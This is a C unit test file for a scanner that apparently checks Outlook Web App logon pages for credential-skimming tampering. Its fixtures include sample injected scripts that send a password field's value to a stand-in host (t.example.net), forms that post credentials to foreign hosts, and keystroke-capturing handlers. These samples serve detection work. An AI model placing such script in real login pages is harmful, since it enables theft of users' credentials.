// SPDX-License-Identifier: MIT
/* Pages as they come: what is found in the markup, and what a parser might miss. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>

#include <cmocka.h>

#include "inspect/digest.h"

#include "html_page.h"

/* 200 bytes of a word; 120 of a path that leads nowhere. */
#define TEN  "aaaaaaaaaa"
#define LONG TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN TEN
#define DOTS                                                                                       \
    "/./././././././././././././././././././././././././././././././././././././././././././././." \
    "/././././././././././././."

static void markup(void **state)
{
    static const struct {
        const char *body;
        enum ex_logon_state state;
        const char *features;
        bool form, doubtful;
    } rows[] = {
        { PAGE(FORM), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM_OF("auth.owa")), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM_OF("../auth.owa")), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM_OF("owaauth.dll")), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM_OF("https://mail.example.com/owa/auth.owa")), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM_OF("https://mail.example.com.example.net/owa/auth.owa")), EX_LP_LIKELY, "F1",
          false, false },
        { PAGE(FORM_OF("//t.example.net/")), EX_LP_LIKELY, "F1", false, false },
        { PAGE(FORM_OF("http://192.0.2.1/owa/auth.owa")), EX_LP_LIKELY, "S4 F1", false, false },
        { PAGE(FORM_OF("&#104;ttps://t.example.net/")), EX_LP_LIKELY, "F1", false, false },
        { PAGE(FORM_OF("/owa/auth/errorEE.aspx")), EX_LP_SUSPICIOUS, "F1", false, false },
        { PAGE(FORM_OF("/owa/auth/logoff.aspx")), EX_LP_SUSPICIOUS, "F1", false, false },
        { PAGE(FORM_OF("")), EX_LP_REVIEW, "", false, false },
        { PAGE(""), EX_LP_NOT_ASSESSED, "", false, false },
        { PAGE("<script>fetch('//t.example.net?'+gbid('password').value)</script>"), EX_LP_LIKELY,
          "C1 S1 S3", false, false },
        { PAGE("<base href=\"https://t.example.net/\">" FORM), EX_LP_LIKELY, "F1", false, false },
        { PAGE(FORM "<base href=\"//t.example.net/\">"), EX_LP_LIKELY, "F1", false, false },
        { PAGE("<base href=\"/owa/auth/\">" FORM_OF("../auth.owa")), EX_LP_GENUINE, "", true,
          false },
        { PAGE(FORM "<button formaction=\"//t.example.net/\">"), EX_LP_LIKELY, "F1", false, false },
        { PAGE(FORM "<form action=\"//t.example.net/\"><input type=password></form>"), EX_LP_LIKELY,
          "F1 F2", false, false },
        { PAGE(FORM "<form action=\"/search\"><input name=q></form>"), EX_LP_REVIEW, "", false,
          false },
        { PAGE(FORM "<form action=\"//idp.example.net/\" method=post><input type=hidden name=SAML>"
                    "<button formaction=\"//idp.example.net/2\"></form>"),
          EX_LP_REVIEW, "", false, false },
        { PAGE(FORM "<form action=\"//t.example.net/\" method=post><input name=username></form>"),
          EX_LP_LIKELY, "F1", false, false },
        { PAGE("<form id=x action=\"//t.example.net/\" method=post></form>" FORM
               "<input form=x name=password type=password>"),
          EX_LP_LIKELY, "F1 F2", false, false },
        { PAGE(FORM_OF("/" LONG LONG "/owa/auth.owa")), EX_LP_SUSPICIOUS, "F1", false, false },
        { PAGE(FORM_OF("/owa/auth.owa?" LONG LONG LONG LONG)), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM_OF(DOTS DOTS DOTS DOTS DOTS "/owa/auth.owa/../../collect.aspx")),
          EX_LP_SUSPICIOUS, "F1", false, false },
        { PAGE(FORM "<script src=\"https://" LONG LONG LONG
                    "@mail.example.com@t.example.net/a.js\">"
                    "</script>"),
          EX_LP_REVIEW, "X1", true, false },
        { PAGE(FORM "<input type=hidden name=password2>"), EX_LP_REVIEW, "F2", true, false },
        { PAGE(FORM "<p onclick=\"x = gbid('password').value\">"), EX_LP_SUSPICIOUS, "C1", true,
          false },
        { PAGE(FORM "<p onclick=\"fetch('//t.example.net?'+gbid(&#39;password&#39;).value)\">"),
          EX_LP_LIKELY, "C1 S1 S3", true, false },
        { PAGE("<body onkeydown=\"k(event)\">" FORM), EX_LP_REVIEW, "C2", true, false },
        { PAGE(FORM "<body onkeydown=\"k(event)\">"), EX_LP_REVIEW, "", true, true },
        { PAGE("<body>" FORM), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM "<input name=username onkeyup=\"k(event)\">"), EX_LP_CUSTOMISED, "", true,
          false },
        { PAGE(FORM "<input type=password onkeyup=\"k(this.value)\">"), EX_LP_SUSPICIOUS, "C1 C2",
          true, false },
        { PAGE(FORM "<a href=\"javascript:fetch(%27//t.example.net%27)\">x</a>"), EX_LP_SUSPICIOUS,
          "S1 S3", true, false },
        { PAGE(FORM "<a href=\"javascript:clkRtry()\">x</a>"), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM "<a href=\"https://help.example.net/\">x</a>"), EX_LP_GENUINE, "", true,
          false },
        { PAGE(FORM "<img src=\"https://cdn.example.net/a.png\">"), EX_LP_CUSTOMISED, "", true,
          false },
        { PAGE(FORM "<style>@import url(//cdn.example.net/a.css)</style>"), EX_LP_CUSTOMISED, "",
          true, false },
        { PAGE(FORM "<script src=\"//t.example.net/a.js\"></script>"), EX_LP_REVIEW, "X1", true,
          false },
        { PAGE(FORM "<script src=\"//cdn-microsoft-x.example.net/a.js\"></script>"),
          EX_LP_SUSPICIOUS, "S3 X1", true, false },
        { PAGE(FORM "<script src=\"//owa.example.net/a.js\"></script>"), EX_LP_SUSPICIOUS, "S3 X1",
          true, false },
        { PAGE(FORM "<script src=\"//owa-cdn.example.com/a.js\"></script>"), EX_LP_REVIEW, "X1",
          true, false },
        { PAGE(FORM "<script src=\"//showa.example.net/a.js\"></script>"), EX_LP_REVIEW, "X1", true,
          false },
        { PAGE(FORM "<script src=\"//www.go0gle.com/a.js\"></script>"), EX_LP_SUSPICIOUS, "S3 X1",
          true, false },
        { PAGE(FORM "<script src=\"//www.googles.com/a.js\"></script>"), EX_LP_SUSPICIOUS, "S3 X1",
          true, false },
        { PAGE(FORM "<script src=\"//t.example.net/a.js\" integrity=\"sha256-x\"></script>"),
          EX_LP_REVIEW, "", true, false },
        { PAGE(FORM "<script src=\"https://www.google.com/recaptcha/api.js\"></script>"),
          EX_LP_CUSTOMISED, "", true, false },
        { PAGE(FORM "<script src=\"/owa/auth/a.js\"></script>"), EX_LP_REVIEW, "", true, false },
        { PAGE(FORM "<script src=\"data:text/javascript,fetch(u)\"></script>"), EX_LP_REVIEW, "S1",
          true, false },
        { PAGE(FORM "<script src=\"data:text/javascript;base64,ZmV0Y2godSk=\"></script>"),
          EX_LP_REVIEW, "S1", true, false },
        { PAGE(FORM "<svg><script href=\"//t.example.net/a.js\"></script></svg>"), EX_LP_REVIEW,
          "X1", true, true },
        { PAGE(FORM "<script type=\"application/json\">{\"a\": \"fetch(u)\"}</script>"),
          EX_LP_GENUINE, "", true, false },
        { PAGE(FORM "<script type=\"text/template\">//t.example.net</script>"), EX_LP_CUSTOMISED,
          "", true, false },
        { PAGE(FORM "<script type=\"module\">fetch(u)</script>"), EX_LP_REVIEW, "S1", true, false },
        { PAGE(FORM "<script>  </script>"), EX_LP_GENUINE, "", true, false },
        { PAGE(FORM "<SCRIPT >banner()</SCRIPT >"), EX_LP_CUSTOMISED, "", true, false },
        { PAGE(FORM "<iframe src=\"//t.example.net/\"></iframe>"), EX_LP_REVIEW, "X1", true,
          false },
        { PAGE(FORM "<object data=\"//t.example.net/\"></object>"), EX_LP_REVIEW, "X1", true,
          false },
        { PAGE(FORM "<meta http-equiv=refresh content=\"0; url=//t.example.net/\">"), EX_LP_REVIEW,
          "X1", true, false },
        { PAGE(FORM "<iframe srcdoc=\"&lt;script>fetch(u)&lt;/script>\"></iframe>"), EX_LP_REVIEW,
          "S1", true, false },
        { PAGE(FORM "<!-- <script>fetch(u)</script> -->"), EX_LP_REVIEW, "", true, true },
        { PAGE(FORM "<!-- <form action=//t.example.net/> -->"), EX_LP_REVIEW, "", true, true },
        { PAGE(FORM "<noscript><script>fetch(u)</script></noscript>"), EX_LP_REVIEW, "", true,
          true },
        { PAGE(FORM "<noscript><a href=\"https://go.microsoft.com/x\">x</a></noscript>"),
          EX_LP_GENUINE, "", true, false },
    };
    unsigned bad = 0;

    (void)state;
    for (size_t i = 0; i < N_OF(rows); i++) {
        char words[WORDS_SIZE];

        look_new(rows[i].body);
        if (page.state == rows[i].state && page.form[EX_CP_LOGON] == rows[i].form &&
            page.doubtful == rows[i].doubtful &&
            strcmp(words_of(words, page.features), rows[i].features) == 0)
            continue;
        fprintf(stderr, "%s\n  is %s \"%s\" form %d doubtful %d\n", rows[i].body + 200,
                ex_logon_str(page.state), words_of(words, page.features), page.form[EX_CP_LOGON],
                page.doubtful);
        bad++;
    }
    assert_int_equal(bad, 0);
}

static void marks(void **state)
{
    static const char guid[] = "<!-- {57A118C6-2DA9-419d-BE9A-F92B0F9A418B} --><html>" FORM;

    (void)state;
    look_new("<html>" FORM);
    assert_int_equal(page.state, EX_LP_NOT_NATIVE);
    assert_int_equal(page.n_scripts, 0);
    look_new(guid);
    assert_true(page.native[EX_CP_LOGON]);
    look_new("<!-- OwaPage = ASP.auth_errorfe_aspx --><html>" FORM);
    assert_int_equal(page.state, EX_LP_NOT_NATIVE);
    look_new(MARK "<html>" FORM_OF("/CookieAuth.dll?Logon"));
    assert_int_equal(page.state, EX_LP_NOT_NATIVE);
    look_new(PAGE(FORM));
    assert_string_equal(page.theme, "/owa/auth/15.1.2507/");
    look_new(MARK "<html><img src=\"/owa/14.3.513.0/themes/a.gif\">" FORM);
    assert_string_equal(page.theme, "/owa/14.3.513.0/");
}

static void origins_and_scripts_are_listed(void **state)
{
    (void)state;
    look_new(PAGE(FORM "<script src=\"https://CDN.example.net:8443/a.js?x=1\"></script>"
                       "<link rel=stylesheet href=\"//cdn2.example.net/a.css\">"
                       "<img src=\"//cdn2.example.net/b.png\">"
                       "<script src=\"a/../b.js?v=2\"></script>"
                       "<script>fetch('//t.example.org/x')</script>"));
    assert_int_equal(page.n_origins, 3);
    assert_string_equal(page.origins[0], "cdn.example.net:8443");
    assert_string_equal(page.origins[1], "cdn2.example.net");
    assert_string_equal(page.origins[2], "t.example.org");
    assert_int_equal(page.n_scripts, 4);
    assert_int_equal(page.scripts[1].kind, EX_SCRIPT_FOREIGN);
    assert_string_equal(page.scripts[1].url, "https://CDN.example.net:8443/a.js?x=1");
    assert_int_equal(page.scripts[2].kind, EX_SCRIPT_SAME_ORIGIN);
    assert_string_equal(page.scripts[2].url, "/owa/auth/b.js"); /* no query leaves */
    assert_string_equal(page.scripts[3].sink, "//t.example.org/x");
    assert_string_equal(page.scripts[3].excerpt, "fetch('//t.example.org/x')");
}

static void a_second_look(void **state)
{
    char hash[EX_SHA256_TEXT];

    (void)state;
    look_new(PAGE(FORM "<script>banner()</script>"));
    memcpy(hash, page.hash, sizeof(hash));
    look(PAGE(FORM "<script>banner()</script>"), EX_CP_LOGON);
    assert_false(page.pages_differ);
    assert_string_equal(page.hash, hash);
    assert_int_equal(page.n_scripts, 2);
    look(PAGE(FORM "<script>banner()</script><script>fetch(u)</script>"), EX_CP_LOGON);
    assert_true(page.pages_differ);
    assert_int_equal(page.n_scripts, 3);
    assert_string_not_equal(page.hash, hash);
    look_new(PAGE(FORM "<script>banner()</script>"));
    look(PAGE(FORM), EX_CP_LOGON); /* it was there, and is not any more */
    assert_true(page.pages_differ);
    look_new(PAGE(FORM));
    look(PAGE(FORM_OF("//t.example.net/")), EX_CP_LOGON);
    assert_true(page.pages_differ);
    assert_int_equal(page.state, EX_LP_LIKELY);
}

static struct ex_exchange answer(const char *path, const char *body)
{
    return (struct ex_exchange){ .status = 200, .path = path, .body = ex_span_str(body) };
}

static void files(void **state)
{
    static const char file[] = "\r\n//  fexppw.js\r\nfunction a() { x = newPwd1.value; }\r\n";
    struct ex_script_row row = { .name = "fexppw.js", .bare_sha256 = "" };
    char sha256[EX_SHA256_TEXT];
    struct ex_exchange x;

    (void)state;
    ex_sha256_text(sha256, ex_span_str(file));
    row.sha256 = sha256;
    catalog.scripts = &row;
    catalog.n_scripts = 1;
    memset(&page, 0, sizeof(page));
    look("<!-- OwaPage = ASP.auth_expiredpassword_aspx --><html><script>\r\n//  fexppw.js\r\n"
         "function a() { x = newPwd1.value; }\r\n</script>"
         "<form name=logonForm method=post action=\"/owa/auth/expiredpassword.aspx?url=%2f\">",
         EX_CP_EXPIRED);
    assert_true(page.form[EX_CP_EXPIRED]);
    assert_false(page.scripts[0].known);
    assert_int_equal(page.scripts[0].features, 1 << EX_FEAT_C1);
    x = answer("/owa/auth/15.1.2507/scripts/premium/fexppw.js", file);
    ex_reader_script(reader, &x, EX_CP_EXPIRED, HOST, page.n_scripts, &page);
    assert_true(page.scripts[1].known && page.scripts[1].fetched && page.scripts[1].shipped);
    assert_true(page.scripts[0].known); /* the same text as the file, which is known */
    assert_int_equal(page.scripts[0].features, 0);
}

/* A known script that does not answer, is cut, or is a page of somebody else. */
static void scripts_that_do_not_come(void **state)
{
    struct ex_exchange x = answer("/owa/auth/a.js", "fetch(u)");

    (void)state;
    look_new(PAGE(FORM "<script src=\"/owa/auth/a.js\"></script>"));
    x.status = 404;
    ex_reader_script(reader, &x, EX_CP_LOGON, HOST, 1, &page);
    assert_false(page.scripts[1].fetched);
    x.status = 200;
    x.body_cut = true;
    ex_reader_script(reader, &x, EX_CP_LOGON, HOST, 1, &page);
    assert_true(page.scripts[1].fetched && page.scripts[1].cut);
    assert_int_equal(page.scripts[1].features, 1 << EX_FEAT_S1);
    ex_reader_script(reader, &x, EX_CP_LOGON, HOST, EX_SCRIPTS_MAX, &page);
    assert_int_equal(page.n_scripts, 2);
}

/* An address that is too long to be kept is told as such, and is none that can be asked for. */
static void addresses_too_long(void **state)
{
    (void)state;
    look_new(PAGE(FORM "<script src=\"/" LONG "/a.js\"></script>"
                       "<script src=\"" DOTS DOTS DOTS DOTS DOTS "/b.js/../c.js\"></script>"));
    assert_string_equal(page.scripts[1].url, "/.../a.js");
    assert_non_null(strstr(page.scripts[2].url, "..."));
    assert_int_equal(page.scripts[2].kind, EX_SCRIPT_SAME_ORIGIN);
}

static void too_many(void **state)
{
    char *body = malloc(EX_BODY_MAX);
    size_t n;

    (void)state;
    assert_non_null(body);
    n = (size_t)snprintf(body, EX_BODY_MAX, "%s", PAGE(FORM));
    for (int i = 0; i < EX_SCRIPTS_MAX + 3; i++)
        n += (size_t)snprintf(body + n, EX_BODY_MAX - n, "<script>a(%d)</script>", i);
    look_new(body);
    assert_int_equal(page.n_scripts, EX_SCRIPTS_MAX);
    assert_int_equal(page.n_more, 4);
    assert_int_equal(page.state, EX_LP_REVIEW);
    /* None of them hides the one behind them. */
    snprintf(body + n, EX_BODY_MAX - n,
             "<script>fetch('https://t.example.net/?'+gbid('password').value)</script>");
    look_new(body);
    assert_int_equal(page.n_scripts, EX_SCRIPTS_MAX);
    assert_int_equal(page.n_more, 5);
    assert_int_equal(page.state, EX_LP_LIKELY);

    n = (size_t)snprintf(body, EX_BODY_MAX, "%s<p ", PAGE(FORM));
    for (int i = 0; i < 400; i++)
        n += (size_t)snprintf(body + n, EX_BODY_MAX - n, "a%d ", i);
    look_new(body);
    assert_true(page.doubtful);
    n = (size_t)snprintf(body, EX_BODY_MAX, "%s", PAGE(FORM));
    for (int i = 0; i < 400; i++)
        n += (size_t)snprintf(body + n, EX_BODY_MAX - n, "<b>");
    look_new(body);
    assert_true(page.doubtful);
    assert_int_equal(page.state, EX_LP_REVIEW);
    free(body);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(markup, setup, teardown),
        cmocka_unit_test_setup_teardown(marks, setup, teardown),
        cmocka_unit_test_setup_teardown(origins_and_scripts_are_listed, setup, teardown),
        cmocka_unit_test_setup_teardown(a_second_look, setup, teardown),
        cmocka_unit_test_setup_teardown(files, setup, teardown),
        cmocka_unit_test_setup_teardown(scripts_that_do_not_come, setup, teardown),
        cmocka_unit_test_setup_teardown(addresses_too_long, setup, teardown),
        cmocka_unit_test_setup_teardown(too_many, setup, teardown),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
